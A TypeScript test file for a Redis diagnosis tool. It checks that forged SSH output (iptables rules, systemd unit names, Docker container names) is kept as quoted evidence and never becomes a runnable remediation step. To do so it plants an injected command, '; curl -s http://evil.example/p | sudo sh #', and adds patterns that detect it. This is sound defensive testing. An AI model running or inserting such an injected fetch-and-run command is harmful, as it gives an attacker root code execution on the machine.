/**
 * A compromised login forges the SSH checks' output (issue #16, item 5), on a
 * real sshd in a network namespace. Its forced command (sshd ForceCommand, as
 * an attacker with write access to authorized_keys or sshd_config would set
 * one) reads the script from stdin — the section marker with it — runs it, and
 * replaces chosen sections with its own text:
 *
 *  - iptables: a REJECT rule followed by `; curl … | sudo sh #`, in front of a
 *    real Redis that a real iptables REJECT in the namespace refuses;
 *  - systemd: the unit of a real SIGSTOPped redis-server, its name followed
 *    by the same payload;
 *  - docker-ps: a Redis container whose name carries the payload, on a port
 *    nothing listens on.
 *
 * The forged text may appear in the evidence, quoted; no remediation step
 * carries it outside one single-quoted shell word, and a forged firewall line
 * never makes a `confirmed` finding.
 */
import { chmod, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { diagnose } from '../../src/engine/pipeline/diagnose.js';
import type { Diagnosis } from '../../src/engine/model/types.js';
import { outsideSingleQuotes } from '../engine/helpers/outside-quotes.js';
import { describeLab, need } from '../lab/guard.js';
import { createNetns, type Netns } from '../lab/netns.js';
import { startRedis } from '../lab/redis.js';
import { expectDiagnosis, targetOf } from './expect-diagnosis.js';
import { startSshHost, type SshHost } from './ssh-lab.js';
import { makeTempDir, type TempDir } from '../lab/tmp.js';

const REQUIREMENTS = [need.root(), need.netns(), ...['redis-server', 'sshd', 'ssh-keygen', 'iptables', 'awk', 'sed'].map((b) => need.binary(b))];

const EVIL = 'http://evil.example/p';
const PAYLOAD = `; curl -s ${EVIL} | sudo sh #`;

/**
 * The forced command. `$SSH_ORIGINAL_COMMAND` is the client's `/bin/sh -s`; the marker is the
 * script's `M=<hex>` line. A section with a file in the forge directory gets that file as its body.
 */
function forcedCommand(forgeDir: string): string {
  return [
    '#!/bin/sh',
    'script=$(cat)',
    "M=$(printf '%s\\n' \"$script\" | sed -n 's/^M=\\([0-9a-f]*\\)$/\\1/p' | head -n 1)",
    `printf '%s\\n' "$script" | /bin/sh -c "$SSH_ORIGINAL_COMMAND" | awk -v M="$M" -v dir='${forgeDir}' '`,
    '  skip == "" && $1 == "###" && $2 == M && $3 == "begin" { f = dir "/" $4; if ((getline x < f) > 0) { print; print x; while ((getline x < f) > 0) print x; close(f); skip = $4; next } }',
    '  skip != "" && $1 == "###" && $2 == M && $3 == "end" && $4 == skip { print "### " M " end " skip " 0 - -"; skip = ""; next }',
    '  skip == "" { print }',
    "'",
    '',
  ].join('\n');
}

/** Every line of every remediation, with what a POSIX shell would read outside single quotes. */
function stepsOutsideQuotes(d: Diagnosis): { line: string; bare: string }[] {
  return d.findings.flatMap((f) => f.remediations.flatMap((r) => [r.title, r.verify ?? '', ...r.steps])).map((line) => ({ line, bare: outsideSingleQuotes(line) }));
}

function expectNoRunnablePayload(d: Diagnosis): void {
  for (const { line, bare } of stepsOutsideQuotes(d)) {
    expect(line, 'a step holds a newline').not.toMatch(/[\n\r]/);
    expect(bare, `runnable payload in: ${line}`).not.toContain('evil.example');
    expect(bare, `runnable payload in: ${line}`).not.toMatch(/curl -s http/);
    expect(bare, `runnable payload in: ${line}`).not.toContain('| sudo sh');
  }
}

describeLab('SSH checks on a login that forges sections: forged text is evidence, never a command', REQUIREMENTS, () => {
  let ns: Netns;
  let host: SshHost;
  let forge: TempDir;

  beforeAll(async () => {
    forge = makeTempDir('forge');
    await chmod(forge.path, 0o755);
    const wrapper = join(forge.path, 'forced-command.sh');
    await writeFile(wrapper, forcedCommand(forge.path), { mode: 0o755 });
    ns = await createNetns();
    host = await startSshHost(ns, [`ForceCommand ${wrapper}`]);
  });
  afterAll(async () => {
    await host?.stop();
    await ns?.destroy();
    await forge?.remove();
  });

  const forged = (section: string, lines: string[]) => writeFile(join(forge.path, section), `${lines.join('\n')}\n`);
  const unforge = (...sections: string[]) => Promise.all(sections.map((s) => rm(join(forge.path, s), { force: true })));
  // The machine's own kernel log may hold OOM kills of other tests' servers: the forger shows none.
  const run = async (port: number, timeoutMs = 2000) => {
    await forged('kernel-oom', ['### source dmesg']);
    return diagnose(targetOf(ns.nsAddress, port), { timeoutMs, ssh: host.ssh() });
  };

  it('a forged iptables line with `; curl … | sudo sh #` in front of a refused Redis: firewall-blocked at most possible, no step runs it', async () => {
    const server = await startRedis({ netns: ns, args: ['--protected-mode', 'no'] });
    await ns.iptables(['-A', 'INPUT', '-p', 'tcp', '--dport', '6379', '-j', 'REJECT']);
    const line = `-A INPUT -p tcp -m tcp --dport 6379 -j REJECT --reject-with tcp-reset ${PAYLOAD}`;
    await forged('iptables', ['### iptables', '-P INPUT ACCEPT', '-P FORWARD ACCEPT', '-P OUTPUT ACCEPT', line, '### rc 0']);
    try {
      const d = await run(6379);
      // A possible firewall finding does not outrank what the network itself showed.
      expectDiagnosis(d, { primaryCause: 'connection-refused', verdict: 'unreachable' });
      const f = d.findings.find((x) => x.cause === 'firewall-blocked')!;
      // Only the forger wrote this line (the real rule reads `--reject-with icmp-port-unreachable`).
      expect(f.evidence.join('\n')).toContain(line);
      expect(f.evidence.join('\n')).toContain('may have been tampered with');
      expect(f.confidence).toBe('possible');
      expectNoRunnablePayload(d);
      const steps = f.remediations.find((r) => r.id === 'remove-firewall-rule')!.steps.join('\n');
      expect(steps).toContain('sudo iptables -L INPUT -n -v --line-numbers');
      expect(steps).not.toContain('sudo iptables -D INPUT -p');
    } finally {
      await unforge('iptables');
      await ns.iptables(['-F', 'INPUT']);
      await server.stop();
    }
  });

  it('a forged systemd unit name for a SIGSTOPped redis-server: server-stalled, the unit is a placeholder in the steps', async () => {
    const server = await startRedis({ netns: ns, args: ['--protected-mode', 'no'] });
    const unit = `redis-server.service${PAYLOAD}`;
    await forged('systemd', [
      `Id=${unit}`,
      'LoadState=loaded',
      'ActiveState=active',
      'SubState=running',
      'Result=success',
      'ExecMainCode=0',
      'ExecMainStatus=0',
      `MainPID=${server.pid}`,
      'NRestarts=0',
      'ExecStart={ path=/usr/bin/redis-server ; argv[]=/usr/bin/redis-server *:6379 ; ignore_errors=no }',
      '',
    ]);
    process.kill(server.pid, 'SIGSTOP');
    try {
      const d = await run(6379, 1000);
      expectDiagnosis(d, { primaryCause: 'server-stalled', verdict: 'unreachable' });
      expect(d.checks.find((c) => c.id === 'ssh-systemd')?.detail ?? '').toContain('redis-server.service');
      expectNoRunnablePayload(d);
      const steps = d.findings[0]!.remediations.find((r) => r.id === 'resume-stopped-redis')!.steps.join('\n');
      expect(steps).toContain('journalctl -u <unit> ');
      expect(steps).toContain(`sudo kill -CONT ${server.pid}`);
    } finally {
      process.kill(server.pid, 'SIGCONT');
      await unforge('systemd');
      await server.stop();
    }
  });

  it('a forged container name on a port nothing listens on: container-port-not-published, the name only in the evidence', async () => {
    const name = `redis${PAYLOAD}`;
    const ps = { ID: 'a'.repeat(64), Image: 'redis:7', Command: '"docker-entrypoint.sh redis-server"', Names: name, Ports: '6379/tcp', State: 'running', Status: 'Up 2 hours' };
    await forged('docker-ps', [JSON.stringify(ps)]);
    try {
      const d = await run(6391);
      const f = d.findings.find((x) => x.cause === 'container-port-not-published')!;
      expect(f.evidence.join('\n')).toContain(name);
      expect(f.confidence).toBe('possible');
      expect(d.primaryCause).not.toBe('container-port-not-published');
      expectNoRunnablePayload(d);
      const steps = f.remediations.find((r) => r.id === 'publish-container-port')!.steps.join('\n');
      expect(steps).toContain('docker ps --filter name=<container> ');
    } finally {
      await unforge('docker-ps');
    }
  });
});
